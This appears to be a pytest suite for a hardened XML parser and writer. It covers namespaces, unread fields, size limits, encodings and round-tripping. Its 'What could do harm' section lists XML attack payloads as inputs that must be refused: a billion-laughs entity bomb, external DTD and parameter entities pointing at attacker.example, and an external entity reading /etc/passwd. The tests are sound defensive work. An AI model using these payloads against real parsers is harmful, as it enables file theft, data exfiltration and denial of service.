"""XML: what is read, what is refused before it can do harm, and trees that come back as they were written."""

from __future__ import annotations

from xml.etree import ElementTree as ET

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from infoexchange import markup
from infoexchange.errors import ExchangeError, MalformedError, Reason, RefusedError
from infoexchange.markup import Element, parse, write

DECLARED = '<?xml version="1.0" encoding="{}"?>'


def refused(raw, line=1, reason=Reason.MALFORMED):
    with pytest.raises(ExchangeError) as caught:
        parse(raw if isinstance(raw, bytes) else raw.encode())
    assert (caught.value.reason, caught.value.field) == (reason, f"line {line}" if line else "")
    return caught.value


def shape(element):
    """A tree as plain values."""
    children = [shape(child) for child in element.children]
    return element.name, element.namespace, element.attributes, element._text, children


def test_names_attributes_texts_and_lines():
    root = parse(b'<a x="1">\n <b> one\n two </b>\n <c xmlns="urn:n" xmlns:p="urn:p" p:y="2"><d>&lt;&#38;</d></c></a>')
    assert shape(root) == (
        "a", "", {"x": "1"}, "",
        [("b", "", {}, " one\n two ", []), ("c", "urn:n", {"{urn:p}y": "2"}, "", [("d", "urn:n", {}, "<&", [])])],
    )  # fmt: skip
    assert root.value("b") == "one two"
    assert [child.line for child in root.children] == [2, 4]
    assert root.attribute("x") == "1"
    assert root.attribute("none") == root.value("none") == root.value("b", "none") == ""


def test_a_child_of_another_namespace_is_another_child():
    root = parse(b'<a xmlns="urn:one"><b>mine</b><b xmlns="urn:two">theirs</b></a>')
    assert root.value("b") == "mine"
    assert list(root.unread()) == [("line 1", "b")]
    assert [found.text for found in root.all("b", "urn:two")] == ["theirs"]
    assert [path for _, path in root.unread()] == []


def test_what_stands_twice_is_refused_where_one_is_meant():
    root = parse(b"<a><b>1</b>\n<b>2</b><c><d>3</d></c></a>")
    assert [found.words for found in root.all("b")] == ["1", "2"]
    assert root.one("c") is root.walk("c")
    assert root.walk("c", "d", "e") is root.walk("none", "c") is None
    assert list(root.unread()) == [("line 2", "c/d/text()")]
    with pytest.raises(MalformedError) as caught:
        root.value("b")
    assert (caught.value.reason, caught.value.field) == (Reason.BAD_FIELD, "line 2: b")


def test_what_nobody_asked_for_is_listed():
    root = parse(b'<a x="1" y="2">stray<b z="3">more<c>1</c><c/><d>2</d></b>\n<e><f> </f></e><g><h i=""/></g></a>')
    root.attribute("x")
    assert root.value("b", "d") == "2"
    assert list(root.unread()) == [
        ("line 1", "@y"), ("line 1", "text()"), ("line 1", "b/@z"), ("line 1", "b/text()"),
        ("line 1", "b/c"), ("line 2", "g"),
    ]  # fmt: skip


def test_what_is_left_out_knowingly_is_not_listed():
    root = parse(b'<a><b x="1"><c>2</c>stray</b><b/><d>3</d></a>')
    root.skip("b", "none")
    assert list(root.unread()) == [("line 1", "d")]


def test_a_schema_is_never_followed_and_a_type_is_kept():
    root = parse(
        b'<a xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:noNamespaceSchemaLocation="http://x.example/"'
        b' i:schemaLocation="urn:a x.xsd" i:type="t"/>'
    )
    assert list(root.attributes) == ["{http://www.w3.org/2001/XMLSchema-instance}type"]


# What could do harm


BOMB = "<!DOCTYPE a [<!ENTITY b0 'x'>" + "".join(
    f"<!ENTITY b{n} '{f'&b{n - 1};' * 10}'>" for n in range(1, 10)
) + "]>\n<a>&b9;</a>"  # fmt: skip


@pytest.mark.parametrize(
    "raw",
    [
        BOMB,
        BOMB.encode("utf-16"),
        f"<!DOCTYPE a [<!ENTITY b '{'x' * 20_000}'>]><a>{'&b;' * 10_000}</a>",
        '<!DOCTYPE a SYSTEM "https://attacker.example/a.dtd"><a/>',
        '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        '<!DOCTYPE a [<!ENTITY % p SYSTEM "https://attacker.example/p"> %p;]><a/>',
        "<!DOCTYPE a><a/>",
        '<!DOCTYPE a [<!ATTLIST a tlp CDATA "TLP:CLEAR">]><a/>',
    ],
)
def test_no_document_brings_a_doctype(raw):
    assert "DOCTYPE" in refused(raw).detail


def test_nothing_long_stands_before_the_document():
    """Else a DOCTYPE could hide where expat would already have looked through what it defines."""
    assert refused("<!--" + "x" * 70_000 + "-->" + BOMB).detail.startswith("no element begins")
    assert parse(b"<!--" + b"x" * 60_000 + b"--><a/>").name == "a"
    assert len(parse(b"<a>" + b"<b>x</b>" * 20_000 + b"</a>").children) == 20_000


def test_entities_without_a_doctype():
    assert parse(b"<a>&lt;&gt;&amp;&quot;&apos;&#x1F600;</a>").text == "<>&\"'\U0001f600"
    for raw in ("<a>&b;</a>", "<a x='&b;'/>", "<a>&#0;</a>", "<a>&#xD800;</a>", "<a>&#x1F;</a>"):
        assert refused(raw).detail.startswith("not XML")


def test_processing_instructions():
    assert parse(b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><?xml-model href="x"?><a/>').name == "a"
    for raw in ("<?php x?><a/>", "<a><?x y?></a>", "<a/><?x y?>"):
        refused(raw)


@pytest.mark.parametrize(
    ("raw", "bound"),
    [
        ("<a>" * (markup.DEPTH_MAX + 1), "inside one another"),
        ("<a>\n" + "<b/>" * markup.ELEMENTS_MAX, "elements"),
        ("<a " + "".join(f" b{n}='1'" for n in range(markup.ATTRIBUTES_MAX + 1)) + "/>", "attributes"),
        (f"<a{'a' * markup.NAME_MAX}/>", "name"),
        (f"<a xmlns='{'n' * (10 * markup.NAME_MAX + 1)}'/>", "namespace"),
        ("<a>\n" + "x" * (markup.TEXT_MAX + 1) + "</a>", "text"),
        ("<a>\n<b c='" + "x" * (markup.TEXT_MAX + 1) + "'/></a>", "attribute"),
    ],
)
def test_bounds(raw, bound, monkeypatch):
    if bound == "elements":
        # The bound itself takes seconds to reach.
        monkeypatch.setattr(markup, "ELEMENTS_MAX", 100)
    caught = refused(raw, line=2 if "\n" in raw else 1, reason=Reason.TOO_LARGE)
    assert bound in caught.detail


def test_at_the_bounds():
    parse(b"<a>" * markup.DEPTH_MAX + b"</a>" * markup.DEPTH_MAX)
    attributes = "".join(f" b{n}='1'" for n in range(markup.ATTRIBUTES_MAX))
    assert len(parse(f"<a{attributes}/>".encode()).attributes) == markup.ATTRIBUTES_MAX
    assert len(parse(b"<a>" + b"x" * markup.TEXT_MAX + b"</a>").text) == markup.TEXT_MAX
    refused(b" " * (markup.SIZE_MAX + 1), line=0, reason=Reason.TOO_LARGE)


# Encodings


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "us-ascii"])
def test_encodings_that_are_read(encoding):
    text = "Aé\u0e01\U0001f600" if encoding != "us-ascii" else "A"
    raw = f"{DECLARED.format(encoding.removesuffix('-sig').upper())}<a>{text}</a>".encode(encoding)
    assert parse(raw).text == text
    assert parse(raw.replace(DECLARED.format("UTF-8").encode(), b"")).text == text


@pytest.mark.parametrize(
    "raw",
    [
        *(DECLARED.format(name) + "<a/>" for name in ("windows-1252", "ISO-8859-1", "utf-7", "rot13", "none")),
        DECLARED.format("UTF-16") + "<a/>",
        (DECLARED.format("UTF-8") + "<a/>").encode("utf-16"),
        "<a>é</a>".encode("utf-32"),
        "<a>é</a>".encode("latin-1"),
        b"<a>\xc0\xaf</a>",
        b"<a>\xed\xa0\x80</a>",
        "<a>é</a>".encode("utf-16")[:-1],
        "<a>".encode("utf-16-le") + b"\x00\xd8" + "</a>".encode("utf-16-le"),
        DECLARED.format("UTF-8").replace("1.0", "1.1") + "<a/>",
    ],
)
def test_encodings_that_are_not(raw):
    refused(raw)


@pytest.mark.parametrize(
    "raw",
    [
        "", " ", "x", "{}", "<a", "<a>", "<a></b>", "<a/><b/>", "<a/>x", "<a x=1/>", "<a x='1' x='2'/>", "<p:a/>",
        "<a p:x='1'/>", "<a xmlns:p='u' xmlns:q='u' p:x='1' q:x='2'/>", "<a>\x00</a>", "<a>\x0b</a>", "<a>\uffff</a>",
        "<a><![CDATA[x</a>", "<a><!-- -- --></a>", "<a>]]></a>", " <?xml version='1.0'?><a/>",
    ],
)  # fmt: skip
def test_what_is_not_xml(raw):
    refused(raw)


def test_a_file_cut_anywhere_is_refused():
    raw = b'<?xml version="1.0"?>\n<a x="1"><b>one</b>\n<c/>&amp;</a>'
    for end in range(len(raw)):
        with pytest.raises(MalformedError):
            parse(raw[:end])


def test_an_error_names_the_line():
    refused("<a>\n<b>\n</a>", line=3)


# Writing


def test_a_tree_is_written_in_one_way():
    root = Element("a", "urn:a")
    root.add("b", 'x<y & "z"', {"c": 'one "two"\n<'})
    root.put("d", "")
    root.put("d", "1")
    root.add("e").add("f")
    root.children.append(Element("g", "urn:g"))
    assert write(root).decode() == (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<a xmlns="urn:a">\n'
        ' <b c="one &quot;two&quot;&#10;&lt;">x&lt;y &amp; "z"</b>\n'
        " <d>1</d>\n"
        " <e>\n"
        "  <f/>\n"
        " </e>\n"
        ' <g xmlns="urn:g"/>\n'
        "</a>\n"
    )


@pytest.mark.parametrize("text", ["\x00", "a\x1bb", "\ud800", "\ufffe", "\x7f\x0c"])
def test_what_xml_cannot_hold_is_refused(text):
    for words, attributes in ((text, {}), ("", {"c": text})):
        made = Element("a")
        made.add("b", words, attributes)
        with pytest.raises(RefusedError) as caught:
            write(made)
        assert (caught.value.reason, caught.value.field) == (Reason.RULE_BROKEN, "b")


plain = st.characters(codec="utf-8", exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff")
texts = st.builds(
    lambda text, end: text + end,
    st.text(plain, max_size=6),
    st.sampled_from(["", "\n", "\r\n", "\t", "]]>", "&lt;", "'"]),
)
names = st.sampled_from(["a", "b", "C", "long-name_1.2"])


@st.composite
def trees(draw, depth=3):
    element = Element(draw(names), draw(st.sampled_from(["", "urn:a", "urn:b&c"])))
    element.attributes.update(draw(st.dictionaries(names, texts, max_size=2)))
    if depth and draw(st.booleans()):
        element.children.extend(draw(st.lists(trees(depth=depth - 1), max_size=3)))
    if not element.children:
        element._text = draw(texts)
    return element


@settings(max_examples=25, deadline=None)
@given(trees())
def test_a_tree_comes_back_and_others_read_it_alike(root):
    raw = write(root)
    assert shape(parse(raw)) == shape(root)
    assert write(parse(raw)) == raw
    other = ET.fromstring(raw)
    assert [found.attrib for found in other.iter()] == [found.attributes for found in everything(root)]
    leaves = [found.text or "" for found in other.iter() if not len(found)]
    assert leaves == [found._text for found in everything(root) if not found.children]


def everything(element):
    yield element
    for child in element.children:
        yield from everything(child)
